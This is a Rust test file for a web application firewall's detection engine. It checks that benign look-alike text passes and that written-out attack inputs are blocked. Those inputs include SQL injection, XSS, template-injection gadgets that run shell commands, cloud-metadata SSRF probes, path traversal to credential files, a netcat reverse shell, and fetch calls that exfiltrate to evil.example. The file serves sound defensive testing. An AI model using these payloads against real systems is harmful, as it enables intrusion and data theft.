            r#"{"data":{"attributes":{"title":"<script>alert(1)</script>"}}}"#,
            Verdict::Block,
        ),
        (
            "application/vnd.acme.order-v2+json",
            r#"{"filter":{"user":{"$ne":null}}}"#,
            Verdict::Block,
        ),
        (
            "application/vnd.acme.invoice+xml",
            "<invoice><to>O'Brien</to><total>12.50</total></invoice>",
            Verdict::Allow,
        ),
        (
            "application/vnd.acme.invoice+xml",
            "<invoice><to>' or '1'='1</to></invoice>",
            Verdict::Block,
        ),
        (
            mixed,
            "--batch_1\r\nContent-Type: application/json\r\n\r\n{\"name\":\"Ann\"}\r\n--batch_1\r\nContent-Type: application/json\r\n\r\n{\"name\":\"Bob\"}\r\n--batch_1--\r\n",
            Verdict::Allow,
        ),
        (
            mixed,
            "--batch_1\r\nContent-Type: text/plain\r\n\r\n1 UNION SELECT password FROM users--\r\n--batch_1--\r\n",
            Verdict::Block,
        ),
        // A type the filter does not parse stays refused, as in CRS.
        ("application/x-amf", "\u{0}\u{3}binary", Verdict::Block),
    ] {
        let a = body_request(content_type, body);
        assert_eq!(a.verdict, verdict, "{content_type}: {body} -> {a:?}");
    }
}

/// A JSON document carried as a value (a form field `data={...}`, a JSON string member, a
/// multipart part of type `application/json`, a cookie): the application parses it and reads
/// its leaves, where the document's own quotes delimit the strings, so an SQL statement in a
/// leaf needs no quote break-out. Its leaves are inspected as values; documents whose leaves
/// are prose, names with apostrophes or SQL words in a sentence pass.
#[test]
fn json_documents_carried_as_values() {
    for doc in [
        r#"{"name":"1 UNION SELECT password FROM users--"}"#,
        r#"{"filter":{"id":"1 AND (SELECT 1 FROM (SELECT SLEEP(3))t)"}}"#,
        r#"[{"op":"replace","path":"/name","value":"x; DROP TABLE users--"}]"#,
        r#"{"items":[{"q":"-1 union all select null,version(),null"}]}"#,
        r#"{"a":"{\"b\":\"1 UNION SELECT password FROM users--\"}"}"#,
    ] {
        each_carrier(doc, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {doc} -> {a:?}");
        });
    }
    for doc in [
        r#"{"title":"Select the best option","owner":"O'Brien"}"#,
        r#"{"q":"how to select distinct values from a table in postgres","page":2}"#,
        r#"[{"op":"replace","path":"/name","value":"Ann & Bob's shop"}]"#,
        r#"{"filter":{"status":"active","tags":["sql","union types"]}}"#,
        r#"{"comment":"It's 5' tall; order by size","ids":[1,2,3]}"#,
        r#"{"msg":"Tom' or 'Jerry","bio":"I'm learning SQL: SELECT, FROM, WHERE"}"#,
        r#"{"note":"Drop me a line; update the table","nested":"{\"k\":\"v\"}"}"#,
    ] {
        each_carrier(doc, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {doc} -> {a:?}");
        });
    }
    let part = |json: &str| {
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"meta\"\r\nContent-Type: application/json\r\n\r\n{json}\r\n--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n"
        )
    };
    let multipart = "multipart/form-data; boundary=XyZ";
    let a = body_request(
        multipart,
        &part(r#"{"title":"x","owner":"1 UNION SELECT password FROM users--"}"#),
    );
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
    let a = body_request(
        multipart,
        &part(r#"{"title":"Q3 report","owner":"O'Brien","tags":["select","union"]}"#),
    );
    assert_eq!(a.verdict, Verdict::Allow, "{a:?}");
    let a = header_request(
        "cookie",
        "prefs={\"sort\":\"1 UNION SELECT password FROM users--\"}",
    );
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
}

/// A cloud metadata URL in the `User-Agent` or `Referer`: applications fetch these headers'
/// URLs (link previews, pingbacks, referrer resolvers) and no browser comes from such a page,
/// so it is an SSRF probe in any notation; crawlers' own pages, development referrers and
/// pages that merely name the address pass.
#[test]
fn metadata_urls_in_user_agent_and_referer() {
    for (name, value) in [
        ("user-agent", "http://169.254.169.254/latest/meta-data/"),
        (
            "user-agent",
            "Mozilla/5.0 (compatible; Probe/1.0; +http://169.254.169.254/latest/meta-data/iam/)",
        ),
        ("user-agent", "curl/8.4.0 http://[fd00:ec2::254]/latest/"),
        (
            "referer",
            "http://metadata.google.internal/computeMetadata/v1/instance/",
        ),
        ("referer", "http://0xa9fea9fe/latest/user-data"),
        ("referer", "https://x@100.100.100.200:80/latest/meta-data/"),
    ] {
        let a = header_request(name, value);
        assert_eq!(a.verdict, Verdict::Block, "{name}: {value:?} -> {a:?}");
    }
    for (name, value) in [
        (
            "user-agent",
            "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        ),
        (
            "user-agent",
            "Mozilla/5.0 (compatible; Probe/1.0; +http://127.0.0.1/about.html)",
        ),
        ("referer", "http://localhost:3000/dashboard"),
        ("referer", "http://192.168.1.20:8080/admin/settings"),
        (
            "referer",
            "https://docs.aws.amazon.com/AWSEC2/latest/UserGuide/instancedata-data-retrieval.html",
        ),
        (
            "referer",
            "https://blog.example/posts/what-is-169.254.169.254-and-why-imdsv2",
        ),
    ] {
        let a = header_request(name, value);
        assert_eq!(a.verdict, Verdict::Allow, "{name}: {value:?} -> {a:?}");
    }
}

/// Bash's parameter expansions (`${#files[@]}`, `${v:+--verbose}`, `${arr[i+1]}`) hold `[`,
/// `*` or `+` as array subscripts, glob patterns and operators, not template code; template
/// expressions that compute (`${7*7}`, `${7777+1}`), walk objects (`${users[0].name}`,
/// `${x[__class__]}`) or nest another expression in a default still count.
#[test]
fn shell_parameter_expansions_versus_template_expressions() {
    for text in [
        "${#arr[@]}",
        "echo ${#files[@]} files",
        "Count with ${#items[*]} and loop over ${!map[@]}",
        "${v:+--verbose}",
        "${arr[i+1]}",
        "Use ${name^^} to upper-case and ${name,,} to lower-case",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    for attack in [
        "${7*7}",
        "${7777+1}",
        "${users[0].name}",
        "${x[__class__]}",
        "${a:-${7*7}}",
        "${a:T(java.lang.Runtime).getRuntime().exec('id')}",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// Thymeleaf: a selection expression `*{...}` that computes or calls, and preprocessing
/// `__${...}__` next to a fragment selector `::` (a view name taken from the request); a CSS
/// universal rule and a JavaScript template literal building a dunder name pass. A value
/// that is one backtick substitution of one program that is no English word (`` `id` ``)
/// is the probe an injection echoes; the same name in a sentence's code span, or an English
/// word quoted as a MySQL column, passes.
#[test]
fn thymeleaf_expressions_and_lone_substitutions() {
    for attack in [
        "*{7*7}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "__${param.lang}__::.x",
        "__*{7*7}__::.x",
        "home::__${x}__",
        "`id`",
        " `pwd` ",
        "`uname`",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
    for text in [
        "*{margin:0;padding:0}",
        "*{box-sizing:border-box}",
        "**{bold}**",
        "const key = `__${prefix}__`",
        "Use `id` to print your uid",
        "The `id` and `name` columns are required",
        "`date`",
        "`user_id`",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
}

/// Written for `threat-precision8` from each family's grammar, in carriers the dev sets
/// seldom use: MySQL versioned comments and mixed case, newline and `#` comments standing
/// for spaces, quote-split and brace-expanded shell words, globbed paths, octal `printf`,
/// double-encoded traversal in a path segment, attacks in XML elements and attributes and in
/// cookies. Beside them, ordinary uploads and documents: an apostrophe inside a file name's
/// word (`O'Brien's CV.pdf`; paranoia 2, as CRS 920121), non-ASCII file names, XML prose
/// about SQL, Latin-1 and UTF-8 cookies.
#[test]
fn other_carriers_and_obfuscations_of_threat_precision8() {
    for attack in [
        "1/*!50000UnIoN*/ /*!50000SeLeCt*/ password FrOm users",
        "-1' UNION#\nSELECT 1,2,3-- -",
        "1' oR 1 LiKe 1-- -",
        "c'a't /e't'c/pa's'swd",
        "{cat,/etc/passwd}",
        "a|/???/c?t /???/p??s??",
        "$(printf '\\151\\144')",
        "<svg><animate onbegin=alert(1) attributeName=x>",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "files.example".to_string())];
    for (path, verdict) in [
        ("/static/..%252f..%252fetc%252fpasswd", Verdict::Block),
        ("/a/%252e%252e/%252e%252e/etc/passwd", Verdict::Block),
        ("/docs/how-to-select-from-union.html", Verdict::Allow),
        ("/caf%C3%A9/men%FC.html", Verdict::Allow),
    ] {
        let a = engine.inspect(&Request::new("GET", path).with_headers(&host));
        assert_eq!(a.verdict, verdict, "{path}: {a:?}");
    }
    let xml = "application/xml";
    for (body, verdict) in [
        (
            "<order><note>1 UNION SELECT password FROM users--</note></order>",
            Verdict::Block,
        ),
        ("<order note=\"x' or '1'='1\"/>", Verdict::Block),
        (
            "<a><b>&lt;svg onload=alert(1)&gt;</b></a>",
            Verdict::Block,
        ),
        (
            "<doc><title>SELECT statements explained</title><body>Use SELECT name FROM t to read rows; it's fast.</body></doc>",
            Verdict::Allow,
        ),
        (
            "<doc lang=\"de\"><t>Größe: 5 × 3 — Preis: 12 €</t></doc>",
            Verdict::Allow,
        ),
    ] {
        let a = body_request(xml, body);
        assert_eq!(a.verdict, verdict, "{body}: {a:?}");
    }
    for (cookie, verdict) in [
        (
            "session=abc; pref=1%27%20UNION%20SELECT%20password%20FROM%20users--",
            Verdict::Block,
        ),
        (
            "theme=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
            Verdict::Block,
        ),
        ("q=caf%E9; name=Se%F1or", Verdict::Allow),
        (
            "note=Tom%27s%20caf%C3%A9; tz=Europe%2FBerlin",
            Verdict::Allow,
        ),
    ] {
        let a = header_request("cookie", cookie);
        assert_eq!(a.verdict, verdict, "{cookie}: {a:?}");
    }
    let upload = |filename: &str| {
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{filename}\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--XyZ--\r\n"
        )
    };
    let multipart = "multipart/form-data; boundary=XyZ";
    for (filename, verdict) in [
        ("O'Brien's CV.pdf", Verdict::Allow),
        ("l'été 2024 – rapport (final).pdf", Verdict::Allow),
        ("x' or '1'='1.pdf", Verdict::Block),
        ("a';.pdf", Verdict::Block),
        ("<svg onload=alert(1)>.pdf", Verdict::Block),
    ] {
        let a = body_request(multipart, &upload(filename));
        assert_eq!(a.verdict, verdict, "{filename}: {a:?}");
    }
    let a = pl2_engine().inspect(
        &Request::new("POST", "/upload")
            .with_headers(&[
                ("host".to_string(), "files.example".to_string()),
                ("content-type".to_string(), multipart.to_string()),
            ])
            .with_body(upload("O'Brien's CV.pdf").as_bytes()),
    );
    assert_eq!(a.verdict, Verdict::Block, "{a:?}");
}

/// `nomatch9`: an SQL break-out counts only when the SQL it makes can run. In a value of
/// several lines, a `--` or `#` comment ends at the line's end, so an article that quotes a
/// payload on a line of its own leaves its paragraphs to the parser: words no dialect parses
/// (four in a row, a word after a string alias, a number after a string) before the first
/// `;` make the statement fail (paranoia 2). Lines that are SQL, prose inside a string or a
/// `/* */` comment, and prose after a stacked statement's `;` still count at paranoia 1.
/// `COLLATE` must name a collation (`_`-joined, SQLite's and PostgreSQL's bare names, quoted):
/// `user'collate foo--` resolves nothing.
#[test]
fn sql_documents_and_collations_of_nomatch9() {
    for text in [
        "How login bypass works\nThe attacker types the classic payload below into the user name field\n' OR '1'='1' --\nThe comment mark hides the rest of the query from the database.",
        "Release notes\nFixed a bug where searching for O'Brien returned every row\nThe query now binds the name as a parameter\nOld input that broke it: x' or 1=1 --",
        "user'collate foo--",
        "name' COLLATE nonsense --",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
    for attack in [
        "x' collate utf8mb4_bin--",
        "x' COLLATE Latin1_General_CS_AS --",
        "x' collate/**/nocase--",
        "x' OR 1=1 --\nAND 2>1 --",
        "x' or 1=1 -- note\nunion select password from users --",
        "x' OR 'a'='a\nthis line is only text inside the string\n' OR 1=1 --",
        "1'; DROP TABLE users; --\nthis is a normal looking sentence here",
        "x' OR 1=1 /*\nfour plain words here\n*/ --",
        "x' OR 1=1 #\n-- the rest of the line is gone",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
}

/// Shapes generalised on `recall9` (issue 11 recall), each beside the text it must not
/// catch: other whitespace between SQL words (no-break, em, ideographic spaces: the tokenizer
/// reads them as spaces), a break-out from a MySQL quoted identifier, a column alias and its
/// table after a break-out, a number glued to a call by an empty exponent, end tags written with characters that become `<` in US-ASCII or byte truncation, a
/// namespace prefix spaced from its tag name, loopback DNS names, the two readings of a URL
/// authority, GCE's short metadata name.
#[test]
fn recall9_shapes_versus_look_alikes() {
    for attack in [
        "1\u{a0}UNION\u{a0}SELECT\u{a0}password\u{a0}FROM\u{a0}users",
        "-1\u{202f}UNION\u{202f}ALL\u{202f}SELECT\u{202f}NULL,NULL--",
        "x'\u{2003}OR\u{2003}1=1--",
        "1\u{3000}OR\u{3000}2>1",
        "ops@shop.example`;",
        "name` UNION SELECT password FROM users-- ",
        "` AS `total` FROM orders",
        "col` RLIKE ",
        "' AS total FROM orders--",
        "x\" REGEXP ",
        "7.e(version())",
        "1.e(select password from users)",
        "¼script¾alert(1)¼/script¾",
        "мscriptоalert(1)м/scriptо",
        "¼iframe src=//evil.example/x¾¼/iframe¾",
        "<x: script>alert(1)</x: script>",
        "http://lvh.me:6379/",
        "http://admin.localtest.me/server-status",
        "http://169.254.169.254#@cdn.example/latest/meta-data/",
        "http://metadata/computeMetadata/v1/instance/",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
    for text in [
        "Prix\u{a0}: 12\u{a0}€ ou moins, livraison offerte",
        "Select\u{a0}the best match from a list of candidates",
        "Crème\u{a0}brûlée or tarte\u{a0}tatin, 2\u{a0}×\u{a0}dessert",
        "Use the `--force` flag to overwrite",
        "Run `npm test`; then `npm run build`",
        "`id` as the key from now on",
        "Rename `user_id` as `owner` from v2 on",
        "¼ cup sugar, ¾ cup flour",
        "Размер: м, цвет: синий, мой заказ",
        "<note: script output below>",
        "Section 1.e(i) covers appeals",
        "Local subdomains: http://lvh.me:3000 is handy, so is localtest.me",
        "https://metadata.example.com/schemas/v1",
    ] {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text:?} -> {a:?}");
        });
    }
}

/// Attacks of kinds the dev set covers thinly, written on `recall9` from each kind's grammar
/// (none is a corpus row): already caught, kept as a guard. SVG/MathML elements and their
/// animation attributes, `javascript:` behind character references, template engines other
/// than Jinja (FreeMarker, Velocity, Twig, ERB, Razor, Mako, Spring EL), NoSQL JavaScript
/// break-outs, LDAP filter break-outs, CR LF before a header, metadata services in other
/// notations, traversal in overlong and double encodings.
#[test]
fn thin_kinds_of_recall9_are_blocked() {
    for attack in [
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/>",
        "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>",
        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
        "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
        "<details open ontoggle=confirm(1)>",
        "\" autofocus onfocus=\"alert(document.domain)",
        "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "#set($x=$e.getClass().forName(\"java.lang.Runtime\"))",
        "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}",
        "<%= `id` %>",
        "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
        "${self.module.cache.util.os.system(\"id\")}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "';return true;var a='",
        "*)(uid=*))(|(uid=*",
        "x*)(|(password=*))",
        "http://[fd00:ec2::254]/latest/meta-data/",
        "http://100.100.100.200/latest/meta-data/",
        "http://169.254.170.2/v2/credentials/",
        "http://[0:0:0:0:0:ffff:169.254.169.254]/",
        "gopher://127.0.0.1:6379/_FLUSHALL",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack:?} -> {a:?}");
        });
    }
    let engine = Config::default().compile().unwrap();
    let host = vec![("host".to_string(), "files.example".to_string())];
    for query in [
        "file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
        "file=..%c0%af..%c0%afetc/passwd",
        "file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "page=..%5c..%5cwindows%5cwin.ini",
        "next=%0d%0aSet-Cookie:%20sid=x",
        "next=%E5%98%8A%E5%98%8DSet-Cookie:%20a=b",
    ] {
        let a = engine.inspect(&Request::new("GET", &format!("/get?{query}")).with_headers(&host));
        assert_eq!(a.verdict, Verdict::Block, "{query}: {a:?}");
    }
}

/// `CONNECT host:port` is a well-formed request line (authority-form, RFC 9112 3.2.3): a
/// deployment that allows the method (a forward proxy) passes it; the default refuses the
/// method, as CRS 911100. Authority-form with another method, or a `CONNECT` target that is
/// no authority, is a malformed request line either way.
#[test]
fn connect_targets_are_authorities() {
    let mut config = Config::default();
    config.allowed_methods.push("CONNECT".to_string());
    let proxy = config.compile().unwrap();
    let default = Config::default().compile().unwrap();
    let hs = vec![("host".to_string(), "www.example.org:443".to_string())];
    let inspect = |engine: &threat_score::Engine, method: &str, target: &str| {
        engine
            .inspect(&Request::new(method, target).with_headers(&hs))
            .verdict
    };
    for target in ["www.example.org:443", "10.1.2.3:8443", "[2001:db8::1]:443"] {
        assert_eq!(
            inspect(&proxy, "CONNECT", target),
            Verdict::Allow,
            "{target}"
        );
        assert_eq!(
            inspect(&default, "CONNECT", target),
            Verdict::Block,
            "{target}"
        );
    }
    for (method, target) in [
        ("CONNECT", "user:pw@www.example.org:443"),
        ("CONNECT", "www.example.org"),
        ("CONNECT", "www.example.org:443/admin"),
        ("GET", "www.example.org:443"),
    ] {
        assert_eq!(
            inspect(&proxy, method, target),
            Verdict::Block,
            "{method} {target}"
        );
    }
}

/// A long leaf of a JSON document carried as a value (a form field or a JSON string holding
/// a document with a 12 KB string): the carrier's windows inside the leaf are read once, as
/// the leaf's own, so a statement at its start, in its middle or at its end is found
/// whatever the carrier, and the same prose with SQL words in sentences passes.
#[test]
fn long_leaves_of_carried_documents() {
    let prose =
        "Release notes for the build pipeline: caching, retries and clearer logs. ".repeat(170);
    let cut = prose.len() / 2;
    let (head, tail) = prose.split_at(cut);
    let documents = |inner: &str| {
        [
            format!(r#"{{"title":"notes","body":{}}}"#, json_string(inner)),
            format!(
                r#"{{"title":"notes","sections":[{{"text":{}}}],"n":2}}"#,
                json_string(inner)
            ),
        ]
    };
    let statement = "1 UNION SELECT password FROM users--";
    for leaf in [
        format!("{statement} {prose}"),
        format!("{head}{statement} {tail}"),
        format!("{prose}{statement}"),
    ] {
        for doc in documents(&leaf) {
            each_carrier(&doc, |carrier, a| {
                assert_eq!(a.verdict, Verdict::Block, "{carrier}: {} bytes", doc.len());
            });
        }
    }
    let sentence = "Select the union of both lists from the users page. ";
    for leaf in [
        format!("{sentence}{prose}"),
        format!("{head}{sentence}{tail}"),
        format!("{prose}{sentence}"),
    ] {
        for doc in documents(&leaf) {
            each_carrier(&doc, |carrier, a| {
                assert_eq!(
                    a.verdict,
                    Verdict::Allow,
                    "{carrier}: {} bytes -> {a:?}",
                    doc.len()
                );
            });
        }
    }
}

/// A traversal spelled in hex (`0x2e` for `.`, `0x2f` for `/`) is one word of letters and
/// digits: the gates must still hand such a word to lfi (they once left every plain word
/// out). Hex numbers and ids that only start with `0x` stay ordinary.
#[test]
fn hex_spelled_traversal_in_one_word() {
    for attack in [
        "0x2e0x2e0x2fetc0x2fpasswd",
        "0x2e0x2e0x2f0x2e0x2e0x2fwindows0x2fwin.ini",
        "0x2e0x2e0x5c0x2e0x2e0x5cboot.ini",
    ] {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack} -> {a:?}");
        });
    }
    for ordinary in ["0x1f", "0xdeadbeef", "color-0x2e2e2e", "0x2e"] {
        each_carrier(ordinary, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {ordinary} -> {a:?}");
        });
    }
}

/// Both ways for each shape of `tsprose16`: `passes` must be allowed and `blocks` blocked at
/// paranoia 1, in every carrier.
fn both_ways(passes: &[&str], blocks: &[&str]) {
    for text in passes {
        each_carrier(text, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Allow, "{carrier}: {text} -> {a:?}");
        });
    }
    for attack in blocks {
        each_carrier(attack, |carrier, a| {
            assert_eq!(a.verdict, Verdict::Block, "{carrier}: {attack} -> {a:?}");
        });
    }
}

/// Reading the DOM is what every page does; a DOM chain counts when it reaches a sink
/// (writing markup or nodes, running code, sending the user or data away) or assigns a
/// property that loads or rewrites content.
#[test]
fn dom_readers_versus_dom_sinks() {
    both_ways(
        &[
            "document.getElementById('x') returns null when the script runs in <head>",
            "call document.querySelector('#a') first",
            "Why does document.querySelectorAll('.open') return a NodeList?",
            "document.getElementsByClassName(\"row\")[0].style.display = \"none\" does nothing",
            "Use `document.createElement('li')` for each item instead of HTML strings",
            "The handler calls document.addEventListener('DOMContentLoaded', init) early",
            "document.getElementById('link').href returns the absolute URL",
            "document.body.classList.add('dark') toggles the theme",
        ],
        &[
            "document.write('<b>x</b>')",
            "x=document.createElement('script');x.src='//evil.example/x.js'",
            "document.body.appendChild(document.createElement('iframe'))",
            "document.location.replace('//evil.example')",
            "document.forms[0].action='//evil.example/steal'",
            "document.querySelector(\"p\").textContent=\"XSS\"",
            "document.getElementById('x').src = '//evil.example/a.js'",
            "document.onkeypress = function(e){ x(e.key) }",
            "document.body.setAttribute('onload','x()')",
            "document.domain='example.com'",
        ],
    );
}

/// Options in a quoted shell assignment (`JAVA_OPTS="-Xmx2g ..."`) are no arithmetic after
/// a break-out; `'-1-'`-style extensions still are.
#[test]
fn quoted_options_versus_minus_extensions() {
    both_ways(
        &[
            "Set JAVA_OPTS=\"-Xmx2g -Dlog4j2.formatMsgNoLookups=true\" before starting",
            "export JAVA_TOOL_OPTIONS=\"-XX:+UseG1GC -XX:MaxGCPauseMillis=200\"",
            "brew install openssl@3 and export LDFLAGS=\"-L/opt/homebrew/opt/openssl@3/lib\"",
        ],
        &["'-1-'", "\"-1-\"", "'-a-'", "1'-sleep(5)-'", "'-x or 1=1--"],
    );
}

/// A method of another language's module in a sentence is no PHP call, nor is a class
/// instantiated with `new`; PHP's own call, its concatenation forms and the same member
/// call as the whole value still count.
#[test]
fn member_calls_in_sentences_versus_php_calls() {
    both_ways(
        &[
            "In Python, use os.system('ls') only if you trust the input.",
            "os.system(\"clear\") works on Linux, use os.system(\"cls\") on Windows",
            "Go: fmt.Println(os.Getenv(\"PORT\")) prints an empty line under Docker",
            "Ruby's Kernel#system('make') returns nil if the command is not found",
            "Java lets you set the working directory with directory(new File(\"/tmp\"))",
        ],
        &[
            "system('id')",
            "'.system('id').'",
            "$a.system('id')",
            "os.system('id')",
            "__import__('os').system('id')",
            "x#system('id')",
            "passthru($_GET['c'])",
        ],
    );
}

/// A front end reading its own API (`fetch('/api/me')`) and a Mongo shell query quoted in a
/// sentence are no attacks; exfiltration and operators in a JSON document are.
#[test]
fn api_reads_and_quoted_queries_versus_their_attacks() {
    both_ways(
        &[
            "fetch('/api/items').then(r => r.json()).then(console.log)",
            "MongoDB question: db.orders.find({ total: { $gte: 100 } }) is slow without an index",
        ],
        &[
            "fetch('//evil.example/?c='+x)",
            "fetch('https://evil.example/x')",
            "{\"user\":{\"$ne\":null}}",
            "{ $gt: \"\" }",
        ],
    );
}

/// Server-side include directives run when a page that stores or reflects the value is
/// served with includes on; HTML comments that merely start with `#` (editor regions,
/// numbered notes) are comments. A .NET `BinaryFormatter` stream in base64 is a
/// deserialization payload; ASP.NET's own ViewState (`/wE...`) and the same letters in
/// lowercase are not that header.
#[test]
fn server_side_includes_and_dotnet_streams_versus_comments_and_viewstate() {
    both_ways(
        &[
            "<!-- #region Helpers -->",
            "<!--#endregion-->",
            "<!--#1: keep this block in sync with the footer-->",
            "see note <!--#todo--> below",
            "/wEPDwUKLTI2NjY4NzQ3Ng9kFgICAw9kFgICAQ8PFgIeBFRleHQFBUhlbGxvZGRk",
            "aaeaaad/////aqaaaaaaaaam",
        ],
        &[
            "<!--#exec cmd=\"id\" -->",
            "<!--#exec cgi=\"/cgi-bin/x.cgi\"-->",
            "<!--#include virtual=\"/web.config\" -->",
            "<!--#echo var=\"DOCUMENT_ROOT\" -->",
            "Nice post <!--#printenv -->",
            "AAEAAAD/////AQAAAAAAAAAMAgAAAFdTeXN0ZW0uV2luZG93cw==",
            "AAEAAAD_____AQAAAAAAAAAMAgAAAFdTeXN0ZW0uV2luZG93cw",
        ],
    );
}

/// A PHP function that calls another by name, passed as a parameter's whole value, is a
/// callable injected into a dispatcher (ThinkPHP's `function=call_user_func_array`); the
/// same name inside a sentence, or snake_case values of ordinary APIs, are not.
#[test]
fn callable_names_as_values_versus_snake_case_values() {
    both_ways(
        &[
            "created_at",
            "user_id",
            "call_user_func_array is deprecated in favour of the spread operator",
            "shell_exec_timeout",
        ],
        &[
            "call_user_func_array",
            "create_function",
            "shell_exec",
            "pcntl_exec",
        ],
    );
}

/// A binary's path named in a sentence or an error line is documentation; a Windows path's
/// `root` or `etc` folder is no Unix tree; a name followed by an assignment operator is a
/// statement of a programming language, not a command line. The same binaries, trees and
/// names in command position or in a Unix path still count.
#[test]
fn mentions_paths_and_assignments_versus_command_lines() {
    both_ways(
        &[
            "A drop-in replacement for /usr/bin/time with more stats",
            "wrapper around /usr/bin/ssh-agent for macOS keychains",
            "/usr/local/bin/python3: No module named pip",
            "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
            "D:\\backup\\etc\\profile.txt",
            "import pandas as pd; df = pd.read_csv('data.csv')",
            "import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.head()",
            "total = 0; df += 1",
        ],
        &[
            "/bin/bash",
            "x /bin/sh -c id",
            "nc -e /bin/sh 10.0.0.1 4444",
            "please; /bin/cat /etc/passwd and more words here",
            "/root/.bash_history",
            "../../root/.ssh/id_rsa",
            "C:\\..\\..\\etc\\passwd",
            "x=1; df -h",
            "x = 1\ndf -h",
        ],
    );
}

/// Package descriptions name JavaScript APIs, CSS rules and systems in the grammar of prose:
/// a name in a Markdown code span (`` `window.alert` ``), the keyword `function` before a
/// code span, an empty call among other words ("Browser fetch() API"), `@import` as a word,
/// an acronym in parentheses after "System". The code they name still counts: a tagged
/// template call, an empty call as the whole value, `@import` before a URL, a PHP call with a
/// quoted or variable argument.
#[test]
fn api_names_in_descriptions_versus_the_calls() {
    both_ways(
        &[
            "The internal lodash function `baseFlatten` exported as a module.",
            "A simple but elegant `fetch` API wrapper, use `fetch` like a charm",
            "alternates `window.confirm` and `window.alert`.",
            "Browser fetch() API",
            "Like setTimeout() but using requestAnimationFrame()",
            "importModule() is a polyfill of import().",
            "Parse CSS @import statements",
            "Turn css @import statements into full urls",
            "Open Source, Content Management System (CMS) for geospatial data.",
            "FluentUI System (filled) icons available as Styled Components",
        ],
        &[
            "alert`1`",
            "top.alert `1`",
            "Function`a${1}`",
            "new Function()",
            "atob()",
            "eval();",
            "<style>@import'//evil.example/x.css';</style>",
            "x{} @import url(//evil.example/x.css)",
            "please run the command system('id') now",
            "system(ls)",
        ],
    );
}

/// SQL's grammar read against sentences that use its words: after `FROM` a table, an alias
/// and a clause (not "from your data set"); `REPLACE` names a table then `VALUES (`, `SELECT`
/// or `SET` (not "replace missing values in your data"); `CREATE USER` names a user then
/// `IDENTIFIED`... (not "create user interfaces for lab automation"); `SHUTDOWN` is a
/// statement of its own; `EXECUTE 'x'` is not followed by words. The statements themselves,
/// as injected, still count.
#[test]
fn sql_words_in_descriptions_versus_statements() {
    both_ways(
        &[
            "Select Best Features from your data set - any size - now with XGBoost!",
            "Select items randomly from a list with weighted probability of selection",
            "Use this package to replace missing values in your data by mean of columns",
            "Replace known values in Titanium apps to allow for further simplification",
            "Multi-select drop-down control to replace regular select element",
            "A small library to create user interfaces for lab automation.",
            "Cross platform Python module for easy system restart reboot and shutdown",
            "A very simple fix for Failed to execute 'define' on 'CustomElementRegistry'",
        ],
        &[
            "' union select username, password from users where id=1--",
            "1 UNION SELECT user,password FROM mysql.user#",
            "' union select name from sysobjects with (nolock)--",
            "x' UNION SELECT null FROM users u WHERE 1=1--",
            "'; replace into users values (1,'admin','x')--",
            "1; replace into t (a,b) select a,b from s--",
            "'; create user hacker identified by 'pw'--",
            "'; shutdown--",
            "'; exec 'xp_cmdshell'--",
        ],
    );
}

/// One word in a parameter named as a name or title is a label: package names that are also
/// programs (`redis-cli`, `ansible-vault`, `tasklist`, `@tsconfig/node21`) pass there, while
/// shell syntax in the same parameter, and the same word where a command is expected, count.
#[test]
fn program_names_as_labels_versus_commands() {
